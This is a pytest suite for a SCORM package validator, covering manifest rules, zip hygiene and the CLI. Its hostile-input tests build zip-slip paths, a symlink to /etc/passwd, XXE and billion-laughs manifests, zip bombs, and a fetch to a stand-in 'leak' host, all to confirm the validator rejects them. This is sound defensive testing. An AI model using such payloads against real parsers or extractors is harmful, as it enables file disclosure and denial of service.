"""scormbuild validate: one test per rule on the corpus in tests/packages, hostile inputs, CLI."""

from __future__ import annotations

import json
import shutil
import textwrap
import zipfile
from pathlib import Path
from typing import Dict, Iterable, List, Optional, Tuple, Union

import pytest
from click.testing import CliRunner

from scormbuild.build import BuildOptions, build
from scormbuild.cli import main
from scormbuild.package.editions import EDITIONS
from scormbuild.validator import RULES, Limits, Report, UnreadablePackage, validate_package

PACKAGES = Path(__file__).resolve().parent / "packages"
DOCS = Path(__file__).resolve().parent.parent / "docs" / "validate.md"
Entry = Union[str, zipfile.ZipInfo]


# --- helpers -------------------------------------------------------------------------------

def scratch(tmp_path: Path, base: str, manifest: Optional[str] = None,
            files: Optional[Dict[str, str]] = None) -> Path:
    """A copy of a corpus package, with a corpus manifest and extra files swapped in."""
    folder = tmp_path / "pkg"
    shutil.copytree(PACKAGES / base, folder)
    if manifest is not None:
        shutil.copy(PACKAGES / "manifests" / f"{manifest}.xml", folder / "imsmanifest.xml")
    for name, text in (files or {}).items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return folder


def zip_folder(folder: Path, target: Path, prefix: str = "") -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(p for p in folder.rglob("*") if p.is_file()):
            zf.write(path, prefix + path.relative_to(folder).as_posix())
    return target


def make_zip(target: Path, entries: Iterable[Tuple[Entry, bytes]]) -> Path:
    """A zip with exactly these entries (names are not cleaned up, duplicates are kept)."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            with pytest.warns(UserWarning) if _seen(zf, name) else _nothing():
                zf.writestr(name, data)
    return target


class _nothing:
    def __enter__(self) -> None:
        return None

    def __exit__(self, *exc: object) -> None:
        return None


def _seen(zf: zipfile.ZipFile, name: Entry) -> bool:
    text = name.filename if isinstance(name, zipfile.ZipInfo) else name
    return text in zf.NameToInfo


def valid_entries(base: str = "valid-12") -> List[Tuple[Entry, bytes]]:
    root = PACKAGES / base
    return [(p.relative_to(root).as_posix(), p.read_bytes())
            for p in sorted(root.rglob("*")) if p.is_file()]


def lines(report: Report) -> List[str]:
    return [str(f) for f in report.findings]


def check_zip(path: Path, **kwargs) -> Report:
    return validate_package(path, label="pkg.zip", **kwargs)


# --- the valid corpus ------------------------------------------------------------------------

@pytest.mark.parametrize("base", ["valid-12", "valid-2004"])
def test_valid_corpus_has_no_findings(tmp_path: Path, base: str) -> None:
    report = check_zip(zip_folder(PACKAGES / base, tmp_path / "pkg.zip"))
    assert lines(report) == []
    assert report.schema_check == "skipped"
    assert report.text_lines()[-2:] == [
        "schema check skipped: no --schemas DIR or SCORMBUILD_SCHEMAS given",
        f"pkg.zip: {report.edition}, 0 errors, 0 warnings"]


@pytest.mark.parametrize("base", ["valid-12", "valid-2004"])
def test_valid_corpus_passes_the_schemas(tmp_path: Path, base: str, schemas: Path) -> None:
    report = check_zip(zip_folder(PACKAGES / base, tmp_path / "pkg.zip"), schemas=schemas)
    assert (lines(report), report.schema_check) == ([], "passed")


# --- one manifest per rule -------------------------------------------------------------------

def _m(line: int, severity: str, message: str, rule: str) -> str:
    return f"imsmanifest.xml:{line}: {severity}: {message} [{rule}]"


MANIFEST_CASES = {
    "manifest.not-well-formed": [_m(15, "error", "Opening and ending tag mismatch: item line 12 "
                                    "and itm, line 15, column 13", "manifest.not-well-formed")],
    "manifest.doctype": [_m(1, "error", "manifest declares a DOCTYPE; DTDs and entities are not "
                            "allowed and were not loaded", "manifest.doctype")],
    "manifest.edition-unknown": [_m(4, "error", "root element {http://example.org/not-a-manifest}"
                                    "manifest is not the <manifest> of SCORM 1.2 or SCORM 2004",
                                    "manifest.edition-unknown")],
    "manifest.schema-name": [_m(8, "error", "<schema> is 'ADL-SCORM'; it must be 'ADL SCORM'",
                                "manifest.schema-name")],
    "manifest.schemaversion": [_m(7, "error", "<schemaversion> is 'SCORM 1.2'; SCORM 1.2 needs "
                                  "exactly '1.2'", "manifest.schemaversion")],
    "manifest.schemaversion-deprecated": [_m(9, "warning", "<schemaversion> 'CAM 1.3' is "
                                             "an older edition; write '2004 4th Edition'",
                                             "manifest.schemaversion-deprecated")],
    "manifest.no-sco": [_m(4, "warning", "the package has no SCO (every resource is an asset): "
                           "the LMS will track no completion, success or score",
                           "manifest.no-sco")],
    "manifest.xinclude": [
        "css/style.css: warning: file is not listed in any <file> of imsmanifest.xml "
        "[manifest.file-not-listed]",
        _m(13, "error", "item 'item-1' references resource 'sco-1', which does not exist",
           "manifest.identifierref-unresolved"),
        _m(19, "error", "XInclude <include> of 'resources.xml': LMSs do not resolve XInclude, "
           "so the included part is missing (nothing was read); write it into imsmanifest.xml",
           "manifest.xinclude"),
        "index.html: warning: file is not listed in any <file> of imsmanifest.xml "
        "[manifest.file-not-listed]",
        "js/app.js: warning: file is not listed in any <file> of imsmanifest.xml "
        "[manifest.file-not-listed]"],
    "manifest.no-organization": [_m(9, "error", "no <organization>: the package has nothing an "
                                    "LMS can launch", "manifest.no-organization")],
    "manifest.default-organization-missing": [_m(11, "error", "<organizations> has no default "
                                                 "attribute",
                                                 "manifest.default-organization-missing")],
    "manifest.default-organization-missing-12": [_m(9, "warning", "<organizations> has no default "
                                                    "attribute",
                                                    "manifest.default-organization-missing")],
    "manifest.default-organization-unresolved": [_m(9, "error", "default organization 'main' does "
                                                    "not exist",
                                                    "manifest.default-organization-unresolved")],
    "manifest.identifier-duplicate": [_m(19, "error", "identifier 'item-1' is already used on "
                                         "line 12", "manifest.identifier-duplicate")],
    "manifest.identifier-invalid": [_m(12, "error", "<item> identifier '1st item' is not a valid "
                                       "XML ID (letters, digits, '.', '-', '_'; no leading digit, "
                                       "no spaces or colons)", "manifest.identifier-invalid")],
    "manifest.identifierref-unresolved": [_m(12, "error", "item 'item-1' references resource "
                                             "'sco-2', which does not exist",
                                             "manifest.identifierref-unresolved")],
    "manifest.leaf-item-without-resource": [_m(26, "error", "item 'item-2' has no child items and "
                                               "no identifierref",
                                               "manifest.leaf-item-without-resource")],
    "manifest.parent-item-with-resource": [_m(26, "warning", "item 'item-2' launches a SCO without "
                                              "completionSetByContent=\"true\" and objectiveSetBy"
                                              "Content=\"true\" in imsss:deliveryControls: the LMS "
                                              "may mark it complete or passed on its own",
                                              "manifest.delivery-controls"),
                                           _m(26, "error", "item 'item-2' has child items, so it "
                                              "must not have an identifierref",
                                              "manifest.parent-item-with-resource")],
    "manifest.launch-href-missing": [_m(19, "error", "resource 'sco-1' is launched by item "
                                        "'item-1' but has no href",
                                        "manifest.launch-href-missing")],
    "manifest.scormtype-spelling": [_m(19, "error", "resource 'sco-1' uses adlcp:scormType; "
                                       "SCORM 1.2 spells it adlcp:scormtype",
                                       "manifest.scormtype-spelling")],
    "manifest.scormtype-missing": [_m(29, "error", "resource 'sco-1' has no adlcp:scormType "
                                      "(sco or asset)", "manifest.scormtype-missing")],
    "manifest.scormtype-invalid": [_m(19, "error", "resource 'sco-1' has adlcp:scormtype=\"SCO\"; "
                                      "use 'sco' or 'asset' (lowercase)",
                                      "manifest.scormtype-invalid")],
    "manifest.href-not-relative": [
        _m(21, "error", "href 'js\\app.js' uses '\\'; use '/'", "manifest.href-not-relative"),
        "js/app.js: warning: file is not listed in any <file> of imsmanifest.xml "
        "[manifest.file-not-listed]"],
    "manifest.href-external": [_m(33, "warning", "href 'https://videos.example.com/intro.mp4' is "
                                  "an external URL; cross-domain content cannot reach the LMS API",
                                  "manifest.href-external")],
    "manifest.href-case-mismatch": [_m(22, "error", "listed file CSS/style.css is packaged as "
                                       "css/style.css; case matters on most LMS servers",
                                       "manifest.href-case-mismatch")],
    "manifest.file-missing": [_m(23, "error", "listed file css/print.css is not in the package",
                                 "manifest.file-missing")],
    "manifest.file-not-listed": ["css/style.css: warning: file is not listed in any <file> of "
                                 "imsmanifest.xml [manifest.file-not-listed]"],
    "manifest.masteryscore-range": [_m(14, "error", "adlcp:masteryscore '150' is not a number "
                                       "from 0 to 100", "manifest.masteryscore-range")],
    "manifest.min-normalized-measure-range": [_m(19, "error", "imsss:minNormalizedMeasure '80' is "
                                                 "not a number from -1 to 1",
                                                 "manifest.min-normalized-measure-range")],
    "manifest.min-normalized-measure-default": [_m(18, "warning", "imsss:primaryObjective "
                                                   "satisfiedByMeasure=\"true\" without "
                                                   "imsss:minNormalizedMeasure: the default 1.0 "
                                                   "requires 100%",
                                                   "manifest.min-normalized-measure-default")],
    "manifest.delivery-controls": [_m(23, "warning", "item 'item-1' launches a SCO without "
                                      "completionSetByContent=\"true\" and objectiveSetByContent="
                                      "\"true\" in imsss:deliveryControls: the LMS may mark it "
                                      "complete or passed on its own",
                                      "manifest.delivery-controls")],
    "manifest.objectives-global-to-system": [_m(12, "warning", "organization 'org' maps global "
                                                "objectives without adlseq:objectivesGlobalTo"
                                                "System=\"false\": they are shared with every "
                                                "course in the LMS",
                                                "manifest.objectives-global-to-system")],
    "content.launch-missing": [_m(19, "error", "launch page start.html is not in the package",
                                  "content.launch-missing")],
    "content.launch-not-html": ["js/app.js: error: launch page of SCO 'sco-1' is not an HTML "
                                "page; a SCO must be HTML to reach the LMS API "
                                "[content.launch-not-html]"],
}


def _base_for(manifest: str) -> str:
    text = (PACKAGES / "manifests" / f"{manifest}.xml").read_text(encoding="utf-8")
    return "valid-2004" if "2004 " in text else "valid-12"


@pytest.mark.parametrize("manifest", sorted(MANIFEST_CASES))
def test_manifest_rule(tmp_path: Path, manifest: str) -> None:
    folder = scratch(tmp_path, _base_for(manifest), manifest)
    report = check_zip(zip_folder(folder, tmp_path / "pkg.zip"))
    assert lines(report) == MANIFEST_CASES[manifest]


def test_partial_schema_set_is_a_warning_none_at_all_a_note(tmp_path: Path) -> None:
    folder = scratch(tmp_path, "valid-12", "manifest.schema-file-missing",
                     files={"imscp_rootv1p1p2.xsd": "<schema/>"})
    report = check_zip(zip_folder(folder, tmp_path / "partial.zip"))
    assert lines(report) == [_m(6, "warning", "xsi:schemaLocation names XSDs that are not in the "
                                "package: adlcp_rootv1p2.xsd", "manifest.schema-file-missing")]
    (folder / "imscp_rootv1p1p2.xsd").unlink()
    report = check_zip(zip_folder(folder, tmp_path / "none.zip"))
    assert lines(report) == [_m(6, "note", "xsi:schemaLocation names 2 XSDs the package does not "
                                "ship (imscp_rootv1p1p2.xsd, adlcp_rootv1p2.xsd): LMSs import it, "
                                "ADL's conformance test suite does not (scormbuild build "
                                "--schemas DIR adds them)", "manifest.schema-files-absent")]
    assert report.exit_code(strict=True) == 0  # a note never fails, not even under --strict
    assert report.text_lines()[-1] == "pkg.zip: SCORM 1.2, 0 errors, 0 warnings, 1 note"
    assert report.as_dict(strict=True)["notes"] == 1


def test_schema_invalid(tmp_path: Path, schemas: Path) -> None:
    folder = scratch(tmp_path, "valid-2004", "manifest.schema-invalid")
    report = check_zip(zip_folder(folder, tmp_path / "pkg.zip"), schemas=schemas)
    assert report.schema_check == "failed"
    assert lines(report) == [_m(14, "error", "Element '{http://www.imsglobal.org/xsd/imscp_v1p1}"
                                "chapter': This element is not expected. Expected is ( "
                                "{http://www.imsglobal.org/xsd/imscp_v1p1}item ).",
                                "manifest.schema-invalid")]


def test_incomplete_schema_folder_cannot_check(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(UnreadablePackage) as caught:
        validate_package(PACKAGES / "valid-12", schemas=tmp_path / "empty")
    assert caught.value.exit_code == 2
    assert "not a complete SCORM 1.2 schema set" in caught.value.message


# --- content -----------------------------------------------------------------------------------

def test_external_references(tmp_path: Path) -> None:
    folder = scratch(tmp_path, "valid-12", files={
        "index.html": """
            <!DOCTYPE html>
            <html><head>
            <link rel="stylesheet" href="https://fonts.example.com/font.css">
            <script src="//cdn.example.com/jquery.js"></script>
            </head><body>
            <p><a href="https://example.org/more">More</a></p>
            <img srcset="img/a.png 1x, https://img.example.com/a2.png 2x" alt="">
            <script>
              var x = 1;
              fetch("https://api.example.com/track");
            </script>
            <script src="js/app.js"></script>
            </body></html>
            """,
        "css/style.css": '@import "https://fonts.example.com/extra.css";\n',
        "js/app.js": 'var s = document.createElement("script");\ns.src = "http://x.example.com/a.js";\n',
    })
    report = check_zip(zip_folder(folder, tmp_path / "pkg.zip"))
    tail = "closed networks block it [content.external-reference]"
    assert lines(report) == [
        f"css/style.css:1: warning: style sheet loads https://fonts.example.com/extra.css from "
        f"external host fonts.example.com; {tail}",
        f"index.html:3: warning: <link href> loads https://fonts.example.com/font.css from "
        f"external host fonts.example.com; {tail}",
        f"index.html:4: warning: <script src> loads //cdn.example.com/jquery.js from external "
        f"host cdn.example.com; {tail}",
        f"index.html:7: warning: <img srcset> loads https://img.example.com/a2.png from external "
        f"host img.example.com; {tail}",
        f"index.html:10: warning: script loads https://api.example.com/track from external host "
        f"api.example.com; {tail}",
        f"js/app.js:2: warning: script loads http://x.example.com/a.js from external host "
        f"x.example.com; {tail}",
    ]


def test_window_open_launch(tmp_path: Path) -> None:
    folder = scratch(tmp_path, "valid-12", files={
        "index.html": """
            <!DOCTYPE html>
            <html><head><title>Launcher</title></head>
            <body onload="window.open('js/app.js', 'course')">
            <p>Your course opens in a new window.</p>
            </body></html>
            """})
    report = check_zip(zip_folder(folder, tmp_path / "pkg.zip"))
    assert lines(report) == [
        "index.html:3: warning: launch page calls window.open(): pop-up blockers stop it and the "
        "LMS loses the session when the launch window closes [content.window-open-launch]"]


def test_frameset_launch(tmp_path: Path) -> None:
    """Reported once, at the outer <frameset> (lms-facts.md: HealthStream's completion can fail
    with a frameset launch; the healthstream profile makes it an error)."""
    folder = scratch(tmp_path, "valid-12", files={
        "index.html": """
            <!DOCTYPE html>
            <html><head><title>Launcher</title></head>
            <frameset rows="0,*"><frame src="js/app.js">
            <frameset cols="50%,50%"><frame src="js/app.js"><frame src="js/app.js"></frameset>
            </frameset></html>
            """})
    report = check_zip(zip_folder(folder, tmp_path / "pkg.zip"))
    assert lines(report) == [
        "index.html:3: warning: launch page is a <frameset>, which HTML5 no longer has: the content "
        "runs in frames of it, and some LMSs lose the completion of a frameset launch "
        "[content.frameset-launch]"]


# --- zip hygiene ---------------------------------------------------------------------------------

def test_manifest_not_at_root(tmp_path: Path) -> None:
    report = check_zip(zip_folder(PACKAGES / "valid-12", tmp_path / "pkg.zip", prefix="course/"))
    assert lines(report) == [
        "pkg.zip: error: no imsmanifest.xml at the package root (found course/imsmanifest.xml: "
        "zip the folder's contents, not the folder) [zip.manifest-not-at-root]"]
    assert report.edition is None and report.exit_code(strict=False) == 1


def test_manifest_name_is_case_sensitive(tmp_path: Path) -> None:
    entries = [("IMSManifest.xml" if n == "imsmanifest.xml" else n, d) for n, d in valid_entries()]
    report = check_zip(make_zip(tmp_path / "pkg.zip", entries))
    assert lines(report) == [
        "pkg.zip: error: no imsmanifest.xml at the package root (found IMSManifest.xml: the name "
        "is case-sensitive) [zip.manifest-not-at-root]"]


def _with(extra: List[Tuple[Entry, bytes]], base: str = "valid-12") -> List[Tuple[Entry, bytes]]:
    return valid_entries(base) + extra


@pytest.mark.parametrize("name, expected", [
    ("/etc/evil.html", "/etc/evil.html: error: entry name is an absolute path [zip.absolute-path]"),
    ("C:/evil.html", "C:/evil.html: error: entry name is an absolute path [zip.absolute-path]"),
    ("../../evil.html", "../../evil.html: error: entry name contains '..' and would be written "
                        "outside the package [zip.parent-path]"),
    ("js\\extra.js", "js\\extra.js: error: entry name uses '\\' as a separator; use '/' "
                     "[zip.backslash]"),
])
def test_unsafe_entry_names(tmp_path: Path, name: str, expected: str) -> None:
    report = check_zip(make_zip(tmp_path / "pkg.zip", _with([(name, b"x")])))
    rules = [f.rule for f in report.findings]
    assert expected in lines(report)
    assert set(rules) <= {expected.rsplit("[", 1)[1][:-1], "manifest.file-not-listed"}


def test_duplicate_entry(tmp_path: Path) -> None:
    report = check_zip(make_zip(tmp_path / "pkg.zip", _with([("index.html", b"<html></html>")])))
    assert lines(report) == ["index.html: error: entry appears 2 times [zip.duplicate-entry]"]


def test_case_collision(tmp_path: Path) -> None:
    report = check_zip(make_zip(tmp_path / "pkg.zip", _with([("JS/app.js", b"var a;")])))
    assert lines(report) == [
        "JS/app.js: error: entry name differs only in case from js/app.js [zip.case-collision]",
        "JS/app.js: warning: file is not listed in any <file> of imsmanifest.xml "
        "[manifest.file-not-listed]"]


def test_symlink_entry(tmp_path: Path) -> None:
    link = zipfile.ZipInfo("js/secret.js")
    link.create_system = 3
    link.external_attr = (0o120777 << 16)
    report = check_zip(make_zip(tmp_path / "pkg.zip", _with([(link, b"/etc/passwd")])))
    assert lines(report) == ["js/secret.js: error: entry is a symbolic link [zip.symlink]"]


def test_symlink_in_folder_is_reported_and_not_followed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.js"
    secret.write_text('fetch("https://leak.example.com/SECRET-MARKER");\n')
    folder = scratch(tmp_path, "valid-12")
    (folder / "js" / "linked.js").symlink_to(secret)
    report = validate_package(folder, label="pkg")
    assert lines(report) == ["js/linked.js: error: entry is a symbolic link [zip.symlink]"]


def patch_header(path: Path, name: str, offset: int, value: bytes, local: bool = True) -> None:
    """Overwrite bytes of one entry's central (and local) header: headers may lie."""
    raw = bytearray(path.read_bytes())
    encoded = name.encode()
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        length = int.from_bytes(raw[at + 28:at + 30], "little")
        if bytes(raw[at + 46:at + 46 + length]) == encoded:
            raw[at + offset:at + offset + len(value)] = value
            start = int.from_bytes(raw[at + 42:at + 46], "little")
            if local:  # local header fields sit 2 bytes earlier than central ones
                raw[start + offset - 2:start + offset - 2 + len(value)] = value
        at = raw.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(raw))


def test_encrypted_entry(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "pkg.zip", _with([("js/locked.js", b"garbage")]))
    patch_header(path, "js/locked.js", 8, b"\x01\x00")
    report = check_zip(path)
    assert lines(report) == [
        "js/locked.js: error: entry is encrypted; an LMS cannot unpack it [zip.encrypted]",
        "js/locked.js: warning: file is not listed in any <file> of imsmanifest.xml "
        "[manifest.file-not-listed]"]


def test_compression_ratio(tmp_path: Path) -> None:
    bomb = [("js/app.js", b"\0" * (4 * 1024 * 1024))]
    entries = [e for e in valid_entries() if e[0] != "js/app.js"] + bomb
    report = check_zip(make_zip(tmp_path / "pkg.zip", entries))
    ratio = report.findings[0].message.split(" ")[2]
    assert lines(report) == [f"js/app.js: error: entry expands {ratio} (limit 100:1); possible "
                             "zip bomb, not read [zip.compression-ratio]"]


def test_too_large_and_too_many_entries(tmp_path: Path) -> None:
    path = zip_folder(PACKAGES / "valid-12", tmp_path / "pkg.zip")
    total = sum(i.file_size for i in zipfile.ZipFile(path).infolist())
    report = check_zip(path, limits=Limits(max_total_size=1000, max_entries=3))
    assert lines(report) == [
        f"pkg.zip: error: entries expand to {total} bytes (limit 1000); possible zip bomb "
        "[zip.too-large]",
        "pkg.zip: error: 4 entries (limit 3) [zip.too-many-entries]"]


def test_corrupt_entry(tmp_path: Path) -> None:
    path = tmp_path / "pkg.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for name, data in valid_entries():
            zf.writestr(name, data)
    raw = path.read_bytes()
    marker = b"LMSInitialize"
    path.write_bytes(raw.replace(marker, b"LMSInitialise", 1))
    report = check_zip(path)
    assert lines(report) == ["js/app.js: error: entry cannot be read: Bad CRC-32 for file "
                             "'js/app.js' [zip.corrupt-entry]"]


# --- hostile inputs -------------------------------------------------------------------------------

def test_zip_slip_extracts_nothing(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    path = make_zip(work / "pkg.zip", _with([("../../escaped.html", b"<html></html>")]))
    before = sorted(p.name for p in tmp_path.rglob("*"))
    report = check_zip(path)
    assert "zip.parent-path" in {f.rule for f in report.findings}
    assert sorted(p.name for p in tmp_path.rglob("*")) == before


@pytest.fixture
def inflated(monkeypatch: pytest.MonkeyPatch) -> List[int]:
    """Bytes decompressed from any zip entry while a test runs (the work a bomb would cause)."""
    counted: List[int] = [0]
    original = zipfile.ZipExtFile.read

    def read(self: zipfile.ZipExtFile, n: int = -1) -> bytes:
        data = original(self, n)
        counted[0] += len(data)
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", read)
    return counted


def test_zip_bomb_is_not_decompressed(tmp_path: Path, inflated: List[int]) -> None:
    entries = [("imsmanifest.xml", b" " * (64 * 1024 * 1024))]
    path = make_zip(tmp_path / "pkg.zip", entries)
    report = check_zip(path)
    assert inflated[0] == 0
    assert [f.rule for f in report.findings] == ["zip.compression-ratio", "manifest.not-well-formed"]
    assert report.findings[1].message == ("manifest could not be read (encrypted, a zip bomb "
                                          "or corrupt: see the zip findings)")


def test_size_declared_in_headers_is_enforced_while_reading(tmp_path: Path,
                                                            inflated: List[int]) -> None:
    """An entry whose headers understate its size is cut off at the declared size."""
    path = tmp_path / "pkg.zip"
    big = b"<!-- " + b"x" * (8 * 1024 * 1024) + b" -->"
    make_zip(path, [("imsmanifest.xml", big)])
    patch_header(path, "imsmanifest.xml", 24, (100).to_bytes(4, "little"))
    report = check_zip(path)
    assert inflated[0] <= 100  # the declared size, not the 8 MiB the entry holds
    assert lines(report) == [
        "imsmanifest.xml: error: entry cannot be read: Bad CRC-32 for file 'imsmanifest.xml' "
        "[zip.corrupt-entry]",
        "imsmanifest.xml: error: manifest could not be read (encrypted, a zip bomb or corrupt: "
        "see the zip findings) [manifest.not-well-formed]"]


def _hostile(tmp_path: Path, name: str, text: str) -> Report:
    entries = [(n, d) for n, d in valid_entries() if n != "imsmanifest.xml"]
    path = make_zip(tmp_path / "pkg.zip", entries + [("imsmanifest.xml", text.encode())])
    return check_zip(path)


def test_xxe_reads_nothing(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-MARKER")
    text = (PACKAGES / "hostile" / "xxe.xml").read_text().replace("SECRET_URI", secret.as_uri())
    report = _hostile(tmp_path, "xxe", text)
    assert lines(report) == [_m(1, "error", "manifest declares a DOCTYPE; DTDs and entities are "
                                "not allowed and were not loaded", "manifest.doctype")]
    assert "SECRET-MARKER" not in json.dumps(report.as_dict(strict=False))


def test_billion_laughs_is_refused_unexpanded(tmp_path: Path) -> None:
    text = (PACKAGES / "hostile" / "billion-laughs.xml").read_text()
    report = _hostile(tmp_path, "billion laughs", text)
    assert [f.rule for f in report.findings] in (["manifest.doctype"],
                                                 ["manifest.not-well-formed"])


# --- command line ---------------------------------------------------------------------------------

def test_cli_text_and_exit_codes(tmp_path: Path) -> None:
    folder = scratch(tmp_path, "valid-12", "manifest.file-not-listed")
    path = zip_folder(folder, tmp_path / "pkg.zip")
    runner = CliRunner()
    relaxed = runner.invoke(main, ["validate", str(path)], env={"SCORMBUILD_SCHEMAS": ""})
    strict = runner.invoke(main, ["validate", str(path), "--strict"], env={"SCORMBUILD_SCHEMAS": ""})
    assert relaxed.exit_code == 0 and strict.exit_code == 1
    assert relaxed.output.splitlines() == [
        "css/style.css: warning: file is not listed in any <file> of imsmanifest.xml "
        "[manifest.file-not-listed]",
        "schema check skipped: no --schemas DIR or SCORMBUILD_SCHEMAS given",
        f"{path}: SCORM 1.2, 0 errors, 1 warning"]


def test_cli_json(tmp_path: Path) -> None:
    folder = scratch(tmp_path, "valid-12", "manifest.identifierref-unresolved")
    result = CliRunner().invoke(main, ["validate", str(folder), "--format", "json"],
                                env={"SCORMBUILD_SCHEMAS": ""})
    assert result.exit_code == 1
    assert json.loads(result.output) == {
        "package": str(folder), "edition": "SCORM 1.2", "ok": False, "schema_check": "skipped",
        "errors": 1, "warnings": 0, "notes": 0,
        "findings": [{"rule": "manifest.identifierref-unresolved", "severity": "error",
                      "path": "imsmanifest.xml", "line": 12,
                      "message": "item 'item-1' references resource 'sco-2', which does not "
                                 "exist"}]}


def test_cli_unreadable_package(tmp_path: Path) -> None:
    bogus = tmp_path / "course.zip"
    bogus.write_text("not a zip")
    runner = CliRunner()
    text = runner.invoke(main, ["validate", str(bogus)])
    as_json = runner.invoke(main, ["validate", str(bogus), "--format", "json"])
    assert text.exit_code == 2 and as_json.exit_code == 2
    assert f"{bogus}: cannot read the package: File is not a zip file" in text.output
    assert json.loads(as_json.output)["error"] == (f"{bogus}: cannot read the package: File is "
                                                   "not a zip file")


def test_cli_schemas_from_environment(tmp_path: Path, schemas: Path) -> None:
    result = CliRunner().invoke(main, ["validate", str(PACKAGES / "valid-2004"), "--format",
                                       "json"], env={"SCORMBUILD_SCHEMAS": str(schemas)})
    assert result.exit_code == 0
    assert json.loads(result.output)["schema_check"] == "passed"


# --- scormbuild's own packages ---------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize("edition", sorted(EDITIONS))
def test_built_packages_have_no_findings(tmp_path: Path, schemas: Path, edition: str) -> None:
    root = Path(__file__).resolve().parent / "roots" / "minimal"
    options = BuildOptions(editions=(EDITIONS[edition],), schemas=schemas)
    result = build(root, tmp_path / "dist", options)
    report = validate_package(result.written[0].path, schemas=schemas)
    assert lines(report) == []
    assert report.schema_check == "passed"


@pytest.mark.slow
@pytest.mark.parametrize("course", ["roots/minimal", "../course"])
def test_default_builds_have_no_findings_even_strict(tmp_path: Path, schemas: Path, course: str) -> None:
    """Without --schemas (the default) a package is still clean: every edition, strict."""
    root = Path(__file__).resolve().parent / course
    result = build(root, tmp_path / "dist", BuildOptions())
    for written in result.written:
        report = validate_package(written.path, schemas=schemas)
        assert [f.rule for f in report.findings] == ["manifest.schema-files-absent"], \
            written.path.name  # the XSDs are added only with --schemas
        assert report.exit_code(strict=True) == 0


# --- gaps found on third-party packages (issue 10) ---------------------------------------------

def _edition_manifest(folder: Path, schemaversion: Optional[str]) -> None:
    manifest = folder / "imsmanifest.xml"
    text = manifest.read_text(encoding="utf-8")
    line = "    <schemaversion>2004 4th Edition</schemaversion>\n"
    new = f"    <schemaversion>{schemaversion}</schemaversion>\n" if schemaversion else ""
    manifest.write_text(text.replace(line, new), encoding="utf-8")


@pytest.mark.parametrize("schemaversion, edition", [
    ("2004 4th Edition", "SCORM 2004 4th Edition"),
    ("2004 3rd Edition", "SCORM 2004 3rd Edition"),
    ("CAM 1.3", "SCORM 2004 2nd Edition"),
    ("2004 5th Edition", "SCORM 2004 (edition not stated)"),
    (None, "SCORM 2004 (edition not stated)"),
])
def test_edition_is_reported_exactly(tmp_path: Path, schemaversion: Optional[str],
                                     edition: str) -> None:
    folder = scratch(tmp_path, "valid-2004")
    _edition_manifest(folder, schemaversion)
    runner = CliRunner()
    text = runner.invoke(main, ["validate", str(folder)], env={"SCORMBUILD_SCHEMAS": ""})
    as_json = runner.invoke(main, ["validate", str(folder), "--format", "json"],
                            env={"SCORMBUILD_SCHEMAS": ""})
    assert text.output.splitlines()[-1].startswith(f"{folder}: {edition}, ")
    assert json.loads(as_json.output)["edition"] == edition


def test_edition_of_scorm12(tmp_path: Path) -> None:
    report = check_zip(zip_folder(PACKAGES / "valid-12", tmp_path / "pkg.zip"))
    assert report.edition == "SCORM 1.2"


def test_directory_entries_and_os_clutter(tmp_path: Path) -> None:
    folders = [zipfile.ZipInfo(name) for name in ("css/", "js/", "__MACOSX/")]
    clutter = [("__MACOSX/._index.html", b"\x00\x05\x16\x07"),
               ("__MACOSX/js/._app.js", b"\x00\x05\x16\x07"),
               ("css/.DS_Store", b"\x00\x00\x00\x01Bud1"), ("Thumbs.db", b"\xd0\xcf")]
    report = check_zip(make_zip(tmp_path / "pkg.zip",
                                _with([(f, b"") for f in folders] + clutter)))
    assert lines(report) == [
        "Thumbs.db: warning: operating-system clutter, not a course file: leave it out of the "
        "package [zip.os-metadata]",
        "__MACOSX/: warning: 2 macOS resource-fork entries (made by the Finder's Compress): not "
        "course files; some LMSs import them as content [zip.os-metadata]",
        "css/.DS_Store: warning: operating-system clutter, not a course file: leave it out of "
        "the package [zip.os-metadata]",
        "pkg.zip: warning: the zip holds 3 directory entries (css/, js/, __MACOSX/): some LMS "
        "importers fail on them; zip the files only (zip -D) [zip.directory-entry]"]


def test_clutter_in_a_folder_package(tmp_path: Path) -> None:
    folder = scratch(tmp_path, "valid-12", files={".DS_Store": "Bud1"})
    assert lines(validate_package(folder, label="pkg")) == [
        ".DS_Store: warning: operating-system clutter, not a course file: leave it out of the "
        "package [zip.os-metadata]"]


def test_document_write_hyperlinks_are_not_loads(tmp_path: Path) -> None:
    folder = scratch(tmp_path, "valid-12", files={
        "index.html": """
            <!DOCTYPE html>
            <html><head><title>Course</title></head><body>
            <script>
              document.write('<p>See <a href="https://example.org/guide">the guide</a>.</p>');
              document.write("<area shape='rect' href='https://example.org/map'>");
              document.write('<script src="https://cdn.example.com/lib.js"><\\/script>');
              document.write('<link rel="stylesheet" href="https://cdn.example.com/a.css">');
            </script>
            </body></html>
            """})
    report = check_zip(zip_folder(folder, tmp_path / "pkg.zip"))
    tail = "closed networks block it [content.external-reference]"
    assert lines(report) == [
        f"index.html:6: warning: script loads https://cdn.example.com/lib.js from external host "
        f"cdn.example.com; {tail}",
        f"index.html:7: warning: script loads https://cdn.example.com/a.css from external host "
        f"cdn.example.com; {tail}"]


# --- documentation -------------------------------------------------------------------------------

def test_every_rule_is_documented_and_tested() -> None:
    documented = DOCS.read_text(encoding="utf-8")
    tested = "".join((Path(__file__).parent / name).read_text(encoding="utf-8")
                     for name in ("test_validate.py", "test_validate_hostile.py", "test_targets.py"))
    for rule in RULES.values():
        assert f"`{rule.id}`" in documented, rule.id
        assert f"| {rule.severity}" in documented.split(f"`{rule.id}`", 1)[1].split("\n", 1)[0]
